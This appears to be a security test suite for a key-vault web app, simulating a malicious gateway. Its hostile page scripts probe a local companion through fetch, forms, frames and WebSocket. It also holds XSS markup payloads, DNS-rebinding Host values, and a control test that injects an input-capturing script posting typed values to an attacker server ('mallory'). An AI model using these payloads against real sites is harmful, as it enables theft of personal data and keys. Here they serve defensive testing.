// A gateway in the wrong hands (A3). It serves an altered vault page and an altered script, answers what it likes, and knows the companion's address. Through
// the companion it gets no key and no name. The control is a listener that an altered page adds in the plain browser: it gets the name, which is what that page warns of.
import assert from 'node:assert/strict';
import { request } from 'node:http';
import { after, before, beforeEach, test } from 'node:test';
import { launch } from './browser.mjs';
import { waitFor } from './demo.mjs';
import { FakeGateway } from './fakegateway.mjs';
import { makeRecovery, startCompanion, VaultSeat } from './vault.mjs';

const secretName = 'Mərcan Ələkbərova';
let gateway, browser, companions = [], judge, prosecutor, investigator, recovery, mallory;
const sheets = {};

before(async () => {
  gateway = await new FakeGateway().start();
  mallory = await new FakeGateway().start(); // where what is stolen is to go
  browser = await launch();
  recovery = makeRecovery();
  companions = await Promise.all(['judge', 'prosecutor', 'investigator'].map(() => startCompanion(gateway.url)));
  [judge, prosecutor, investigator] = await Promise.all(['judge', 'prosecutor', 'investigator'].map((n, i) => VaultSeat.open(browser, n, companions[i].link)));
  const seats = { judge, prosecutor, investigator };
  for (const [role, seat] of Object.entries(seats)) { await seat.pair(gateway.code(role)); sheets[role] = await seat.makeKey(); }
  for (const [role, seat] of Object.entries(seats)) {
    await seat.look();
    for (const other of Object.keys(seats)) if (other !== role) assert.equal(await seat.pin(sheets[other].code, other, other), null);
  }
  const codes = recovery.sheets.map((s) => s.code);
  for (const seat of [judge, prosecutor]) { await seat.look(); await seat.recovery(recovery.file, codes); await seat.fine('recovery'); }
  await investigator.look();
  for (const i of [0, 1]) assert.equal(await investigator.pin(codes[i], `sheet ${i + 1}`, `recovery${i + 1}`), null);
  assert.equal(await investigator.protect({ name: secretName }), null);
  assert.equal(await investigator.protect({ name: 'Another Person' }), null);
}, { timeout: 240_000 });
after(async () => { await browser?.close(); await Promise.all(companions.map((c) => c.stop())); gateway?.stop(); mallory?.stop(); });
beforeEach(() => { gateway.evil = {}; gateway.pages = {}; });

const heard = () => `${gateway.heard.join('\n')}\n${mallory.heard.join('\n')}`;
const stolen = (what) => [what, JSON.stringify(what).slice(1, -1), encodeURIComponent(what), Buffer.from(what).toString('base64').replace(/=+$/, ''), Buffer.from(what).toString('hex')].some((f) => heard().includes(f));

/** A page of the gateway's with a script of its choosing, in a browser that has entered the companion. */
async function evilPage(script, { at = gateway.url, seat = judge, look = () => undefined } = {}) {
  gateway.pages['/vault'] = { type: 'text/html', body: `<!doctype html><title>evil</title><body><script>window.loot = []; document.addEventListener('mousedown', () => { window.touched = true; });\n${script}</script>` };
  const page = await seat.context.newPage();
  await page.goto(`${at}/vault`);
  await page.mouse.click(5, 5); // a person's touch, without which no window opens
  await page.waitForFunction(() => window.done, null, { timeout: 20_000 });
  const loot = await page.evaluate(() => window.loot);
  look(page);
  await page.close();
  return loot;
}

const knock = (host, path, headers = {}, { method = 'GET', body, port = new URL(companions[0].origin).port } = {}) => new Promise((done, fail) => {
  const q = request({ host: '127.0.0.1', port, path, method, headers: { Host: host, ...headers } }, (r) => { let b = ''; r.on('data', (d) => { b += d; }); r.on('end', () => done({ status: r.statusCode, headers: r.headers, body: b })); });
  q.on('error', fail);
  q.end(body);
});

// A page on another port of localhost is of the same site as the companion: strict cookies travel, and only its Origin and Fetch Metadata tell it from the companion's own.
for (const where of ['127.0.0.1', 'localhost']) {
  test(`a script of the gateway's at ${where} gets nothing out of the companion: fetch, XHR, WebSocket, tags`, { timeout: 60_000 }, async () => {
    const before = gateway.paths.length;
    const loot = await evilPage(`
      const at = ${JSON.stringify(companions[0].origin)};
      const said = (name, v) => window.loot.push([name, String(v).slice(0, 200)]);
      (async () => {
        for (const path of ['/local/state', '/local/keyring', '/api/vault/state', '/', '/local/enter']) {
          for (const mode of ['cors', 'no-cors', 'same-origin']) {
            try { const r = await fetch(at + path, { mode, credentials: 'include' }); const t = await r.text(); if (t || r.type !== 'opaque') said('fetch ' + mode + ' ' + path, t); } catch { }
          }
        }
        for (const type of ['text/plain', 'application/json']) {
          try { const r = await fetch(at + '/local/pair', { method: 'POST', credentials: 'include', headers: { 'Content-Type': type }, body: '{"code":"x"}' }); said('post', await r.text()); } catch { }
          try { const r = await fetch(at + '/local/keyring', { method: 'PUT', credentials: 'include', headers: { 'Content-Type': type }, body: '{"revision":"","ring":{"parda_keyring":1}}' }); said('put', await r.text()); } catch { }
        }
        navigator.sendBeacon(at + '/local/unpair', new Blob(['{}'], { type: 'text/plain' }));
        await new Promise((ok) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.onloadend = () => { if (x.responseText) said('xhr', x.responseText); ok(); }; x.open('GET', at + '/local/keyring'); x.send(); });
        await new Promise((ok) => { const w = new WebSocket(at.replace('http', 'ws') + '/local/state'); w.onopen = () => said('ws', 'open'); w.onmessage = (m) => said('ws', m.data); w.onclose = ok; });
        for (const tag of ['script', 'img', 'link']) await new Promise((ok) => { const e = document.createElement(tag); if (tag === 'link') { e.rel = 'stylesheet'; e.href = at + '/local/keyring'; } else e.src = at + '/local/keyring'; e.onload = () => { said(tag, 'loaded'); ok(); }; e.onerror = ok; document.head.append(e); });
        window.done = true;
      })();`, { at: `http://${where}:${gateway.port}` });
    assert.deepEqual(loot, []);
    assert.deepEqual(gateway.paths.slice(before).filter((p) => p.includes('/api/')), [], 'the companion was made to ask the gateway');
    await judge.look();
    await judge.fine('the pairing is still there');
  });
}

test('a form, a frame and an opened window do nothing and see nothing', { timeout: 60_000 }, async () => {
  const before = gateway.paths.length;
  let framed = -1;
  const loot = await evilPage(`
    const at = ${JSON.stringify(companions[0].origin)};
    const said = (name, v) => window.loot.push([name, String(v).slice(0, 200)]);
    (async () => {
      const f = document.createElement('iframe'); f.src = at + '/'; document.body.append(f);
      await new Promise((ok) => { f.onload = ok; setTimeout(ok, 3000); });
      try { if (f.contentDocument?.querySelector('#app')) said('frame', 'read'); } catch { }
      for (let i = 0; i < 5; i++) { f.contentWindow.postMessage({ give: 'keys' }, '*'); }
      window.addEventListener('message', (m) => { if (String(m.origin).includes('localhost:' + new URL(at).port)) said('message', JSON.stringify(m.data)); });
      const into = document.createElement('iframe'); into.name = 'into'; document.body.append(into);
      for (const path of ['/local/unpair', '/local/pair', '/local/keyring']) {
        const form = document.createElement('form'); form.method = 'POST'; form.enctype = 'text/plain'; form.action = at + path; form.target = 'into';
        const i = document.createElement('input'); i.name = '{"code":"'; i.value = '"}'; form.append(i); document.body.append(form); form.submit();
        await new Promise((ok) => setTimeout(ok, 200));
      }
      await new Promise((ok) => { if (window.touched) ok(); else document.addEventListener('mousedown', ok); });
      const w = window.open(at + '/', 'companion');
      if (!w) said('window', 'did not open: this test sees nothing');
      await new Promise((ok) => setTimeout(ok, 1500));
      if (w) {
        try { said('window', w.document.body.innerText); } catch { }
        try { w.postMessage({ give: 'keys' }, '*'); } catch { }
        if (!w.closed) said('handle', 'the window can still be driven');
      }
      window.done = true;
    })();`, { look: (page) => { framed = page.frames().filter((f) => f.url().startsWith(companions[0].origin)).length; } });
  assert.deepEqual(loot, []);
  assert.equal(framed, 0, 'the companion stands in a frame of the gateway\'s page');
  assert.deepEqual(gateway.paths.slice(before).filter((p) => p.includes('/api/vault/pair') || p.startsWith('POST')), []);
  for (const page of judge.context.pages()) if (page !== judge.page) await page.close();
  await judge.look();
  await judge.fine('a form has ended the pairing');
});

test('a name that is pointed at this machine (DNS rebinding), a stranger\'s cookie and a guess at the link are refused', { timeout: 60_000 }, async () => {
  const { port } = new URL(companions[0].origin);
  for (const host of [`evil.example:${port}`, `127.0.0.1:${port}`, `localhost.evil.example:${port}`, 'localhost', `LOCALHOST.:${port}`]) {
    assert.equal((await knock(host, '/')).status, 403, host);
    assert.equal((await knock(host, '/local/state', { 'Sec-Fetch-Site': 'same-origin', 'Sec-Fetch-Dest': 'empty' })).status, 403, host);
  }
  const own = { 'Sec-Fetch-Site': 'same-origin', 'Sec-Fetch-Dest': 'empty', Origin: companions[0].origin, 'Content-Type': 'application/json' };
  assert.equal((await knock(`localhost:${port}`, '/local/keyring', { ...own, Cookie: `parda-companion-${port}=guess` })).status, 403);
  assert.equal((await knock(`localhost:${port}`, '/local/enter', own, { method: 'POST', body: '{"token":"guess"}' })).status, 403);
  const used = new URL(companions[0].link).hash.split('=')[1];
  assert.equal((await knock(`localhost:${port}`, '/local/enter', own, { method: 'POST', body: JSON.stringify({ token: used }) })).status, 403, 'the link enters twice');
  // Control: from the companion's own page, in the browser that entered, the same asking is answered.
  assert.equal(await judge.page.evaluate(() => fetch('/local/keyring').then((r) => r.status)), 200);
  const page = await knock(`localhost:${port}`, '/');
  assert.equal(page.status, 200);
  assert.match(page.headers['content-security-policy'], /frame-ancestors 'none'/);
  assert.equal(page.headers['cross-origin-opener-policy'], 'same-origin');
  assert.equal(page.headers['access-control-allow-origin'], undefined);
});

test('the cookie is out of any script\'s reach, and the page\'s storage holds no key', { timeout: 60_000 }, async () => {
  const own = await judge.page.evaluate(() => ({ cookie: document.cookie, storage: JSON.stringify({ ...localStorage, ...sessionStorage }), hash: location.hash }));
  assert.equal(own.cookie, '');
  assert.equal(own.hash, '');
  assert.doesNotMatch(own.storage, /parda_keyring|AGE-SECRET|token/i);
  const cookie = (await judge.context.cookies(companions[0].origin)).find((c) => c.name.startsWith('parda-companion'));
  assert.ok(cookie.httpOnly && cookie.sameSite === 'Strict', 'the cookie is not strict');
});

test('its own key in the place of the judge\'s: nothing is sealed to it', { timeout: 60_000 }, async () => {
  const own = await cardOfMallory();
  const swap = (state) => ({ ...state, keys: [...state.keys.map((k) => (k.person === 'p-judge' ? { ...k, key: own.key, card: own.card } : k))], persons: state.persons.map((p) => ({ ...p, seal_to: p.seal_to?.map((s) => (s.holder === 'judge' ? { ...s, key: own.key } : s)) ?? null })) });
  gateway.evil['GET state'] = swap;
  const before = gateway.envelopes.size;
  assert.equal(await investigator.protect({ name: 'Never Sealed' }), 'not_pinned');
  await investigator.act('person.cancel').click();
  // The prosecutor's key for both halves: one person would be two.
  gateway.evil['GET state'] = (state) => ({ ...state, persons: state.persons.map((p) => ({ ...p, seal_to: p.seal_to?.map((s) => (s.holder === 'judge' ? { ...s, key: gateway.active('p-prosecutor').key } : s)) ?? null })) });
  assert.equal(await investigator.protect({ name: 'Never Sealed' }), 'not_pinned');
  await investigator.act('person.cancel').click();
  assert.equal(gateway.envelopes.size, before);
  assert.ok(!stolen('Never Sealed'));
});

test('an order for its own key as the reader: no half is released', { timeout: 60_000 }, async () => {
  const own = await cardOfMallory();
  gateway.openings.push({ opening: 'o-evil1', kind: 'open', person: gateway.persons[0].person, pseudonym: gateway.persons[0].pseudonym, version: 1, reader: { person: 'p-judge', key: own.key }, ordered_by: 'p-judge', why: 'x', ground: 'identity_at_trial', from: new Date().toISOString(), until: new Date(Date.now() + 1e6).toISOString(), tell_lawyer: false, state: 'ordered', released: [], releases: [] });
  assert.equal(await prosecutor.release(), 'not_pinned');
  // Shown with the judge's key, handed out with its own.
  gateway.openings.at(-1).reader.key = gateway.active('p-judge').key;
  gateway.evil['GET openings/:id/share'] = (a) => ({ ...a, reader: { person: 'p-judge', key: own.key, card: own.card } });
  assert.equal(await prosecutor.release(), 'other_opening');
  // The judge's key by name, its own by content: the seat takes the card that it pinned, so what comes is of no use to anybody but the judge.
  gateway.evil['GET openings/:id/share'] = (a) => ({ ...a, reader: { ...a.reader, card: own.card } });
  assert.equal(await prosecutor.release(), null);
  const sent = gateway.openings.at(-1).releases[0];
  assert.ok(Buffer.from(sent.share, 'base64').toString('latin1').startsWith('age-encryption.org/v1'));
  await assert.rejects(own.open(sent.share), /cannot_open/);
  gateway.openings.pop();
});

test('another person under the same pseudonym, an old record, and a release of an earlier opening are refused', { timeout: 120_000 }, async () => {
  await judge.look();
  await judge.order({ reader: 'I myself' }); // of the first person
  const [first, second] = gateway.persons;
  const other = gateway.envelopes.get(second.person), order = gateway.openings.at(-1);
  gateway.evil['GET openings/:id/share'] = (a) => ({ ...a, shares: other.shares, payload_sha256: a.payload_sha256 });
  assert.equal(await judge.release(), 'other_person');
  // The order shows the pseudonym of one and names the other.
  gateway.evil = {};
  order.person = second.person;
  assert.equal(await judge.release(), 'other_pseudonym');
  order.person = first.person;
  assert.equal(await judge.release(), null);
  assert.equal(await prosecutor.release(), null);
  const old = [...order.releases], oldEnvelope = gateway.envelopes.get(first.person);
  assert.equal(await judge.read(), null);
  assert.equal((await judge.reading()).name, secretName);
  await judge.press('reading.close');
  await judge.press('opening.end');
  // The earlier releases once more, under a new order that nobody released for.
  await judge.order({ reader: 'I myself' });
  Object.assign(gateway.openings.at(-1), { state: 'released', releases: old });
  assert.equal(await judge.read(), 'other_opening');
  assert.equal(await judge.reading(), null);
  gateway.openings.pop();
  // A record with an older number, or another one under the same number, than this seat has seen.
  gateway.evil['GET openings/:id/share'] = (a) => ({ ...a, payload_sha256: '0'.repeat(64) });
  await judge.order({ reader: 'I myself' });
  assert.equal(await judge.release(), 'replayed');
  gateway.openings.pop();
  assert.equal(gateway.envelopes.get(first.person), oldEnvelope);
});

test('a half leaves the seat only by a press on the order that is shown', { timeout: 60_000 }, async () => {
  const before = gateway.paths.filter((p) => p.includes('/release')).length;
  gateway.evil['GET state'] = (state) => ({ ...state, openings: state.openings.map((o) => ({ ...o, state: 'ordered', auto: true })), command: 'release', release: { half: 1 } });
  for (let i = 0; i < 3; i++) await prosecutor.look();
  assert.equal(gateway.paths.filter((p) => p.includes('/release')).length, before);
  assert.ok(gateway.paths.filter((p) => p.includes('/release')).length > 0, 'no release was ever made: this test would see none');
});

test('markup in every text is text, and an answer of another form does not reach the page', { timeout: 120_000 }, async () => {
  const markup = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
  gateway.evil['GET state'] = (state) => ({ ...state, evil: markup, grounds: state.grounds.map((g) => ({ ...g, article: markup, text: { az: markup, en: markup, ru: markup } })), persons: state.persons.map((p) => ({ ...p, pseudonym: markup })), openings: state.openings.map((o) => ({ ...o, pseudonym: markup, why: markup })) });
  await judge.look();
  await judge.fine('markup is text');
  assert.ok((await judge.page.locator('[data-person]').first().innerText()).includes('<img'), 'the markup is not even shown: this test sees nothing');
  assert.deepEqual(await judge.page.evaluate(() => [window.pwned, document.querySelectorAll('#app img, #app script').length]), [undefined, 0]);
  const bad = {
    'a role that is markup': (s) => ({ ...s, me: { ...s.me, roles: [markup] } }),
    'a text that is turned about': (s) => ({ ...s, openings: s.openings.map((o) => ({ ...o, why: 'judge\u202Eesrever' })) }),
    'a text without end': (s) => ({ ...s, persons: s.persons.map((p) => ({ ...p, pseudonym: 'x'.repeat(5000) })) }),
    'a key id that is none': (s) => ({ ...s, keys: s.keys.map((k) => ({ ...k, key: '../../x' })) }),
    'a list where an object belongs': (s) => [s],
  };
  for (const [what, change] of Object.entries(bad)) {
    gateway.evil['GET state'] = change;
    await judge.look();
    assert.equal(await judge.fault(), 'gateway_answer', what);
  }
});

test('a way elsewhere is not taken, a flood is cut off, a page in the place of an answer is refused', { timeout: 120_000 }, async () => {
  const answers = {
    'a redirect': (_, r) => { r.writeHead(302, { Location: `${mallory.url}/api/vault/state` }); r.end(); },
    'a redirect that keeps the method': (_, r) => { r.writeHead(307, { Location: `${mallory.url}/api/vault/state` }); r.end(); },
    'a page': (_, r) => { r.writeHead(200, { 'Content-Type': 'text/html' }); r.end('<script>1</script>'); },
    'a script': (_, r) => { r.writeHead(200, { 'Content-Type': 'application/javascript' }); r.end('1'); },
    'two values': (_, r) => { r.writeHead(200, { 'Content-Type': 'application/json' }); r.end('{}{}'); },
    'a flood': (_, r) => { r.writeHead(200, { 'Content-Type': 'application/json' }); const more = Buffer.alloc(1 << 20, 32); const pour = () => { while (!r.destroyed && r.write(more)); }; r.on('drain', pour); r.on('error', () => undefined); pour(); },
    'a refusal that is markup': (_, r) => { r.writeHead(403, { 'Content-Type': 'application/json' }); r.end('{"code":"<b>x</b>","message":"y"}'); },
  };
  for (const [what, act] of Object.entries(answers)) {
    gateway.evil['GET state'] = (a, q, r) => { act(q, r); };
    await judge.look();
    assert.equal(await judge.fault(), 'gateway_answer', what);
  }
  assert.deepEqual(mallory.paths, [], 'the bearer token went to another place');
  gateway.evil = {};
  await judge.look();
  await judge.fine('afterwards all is as before');
});

test('nothing of all this told a name or a key', { timeout: 60_000 }, () => {
  for (const what of [secretName, 'Another Person', 'AGE-SECRET-KEY', ...Object.values(sheets).flatMap((s) => [s.sheet, s.sheet.replaceAll(' ', '')])]) assert.ok(!stolen(what), `${what.slice(0, 12)} was heard`);
});

test('CONTROL: an altered page in the plain browser gets the name, and the plain page says that it could', { timeout: 120_000 }, async () => {
  gateway.plain = true;
  gateway.tokens.set('plain', gateway.people.get('investigator'));
  const dist = new URL('../dist/', import.meta.url);
  const { readFileSync, readdirSync } = await import('node:fs');
  for (const f of readdirSync(new URL('assets/', dist))) gateway.pages[`/assets/${f}`] = { type: { js: 'text/javascript', css: 'text/css', svg: 'image/svg+xml', woff2: 'font/woff2' }[f.split('.').pop()], body: readFileSync(new URL(`assets/${f}`, dist)) };
  const honest = readFileSync(new URL('vault.html', dist), 'utf8');
  gateway.pages['/vault'] = { type: 'text/html', body: honest.replace('</body>', `<script>document.addEventListener('input', (e) => fetch('${mallory.url}/loot', { method: 'POST', mode: 'no-cors', body: e.target.value }));</script></body>`) };
  const seat = await VaultSeat.open(browser, 'plain', `${gateway.url.replace('127.0.0.1', 'localhost')}/vault`);
  await seat.page.locator('[data-notice="plain"]').waitFor();
  await seat.makeKey({ role: 'investigator' });
  await seat.act('person.new').click();
  await seat.field('name').fill('Plain Name');
  await waitFor('the plain browser tells the altered script the name', () => mallory.heard.some((h) => h.includes('Plain Name')));
  await seat.close();
});

/** A key of the adversary's, made with age in Node. */
async function cardOfMallory() {
  const { Decrypter, generateHybridIdentity, identityToRecipient } = await import('age-encryption');
  const { createHash, generateKeyPairSync } = await import('node:crypto');
  const identity = await generateHybridIdentity();
  const card = { recipient: await identityToRecipient(identity), verify: generateKeyPairSync('ed25519').publicKey.export({ format: 'der', type: 'spki' }).subarray(-32).toString('base64') };
  const open = async (b64) => { const d = new Decrypter(); d.addIdentity(identity); return d.decrypt(Buffer.from(b64, 'base64')).catch(() => { throw new Error('cannot_open'); }); };
  return { card, key: createHash('sha256').update(`${card.recipient}\n${card.verify}`).digest('hex'), open };
}
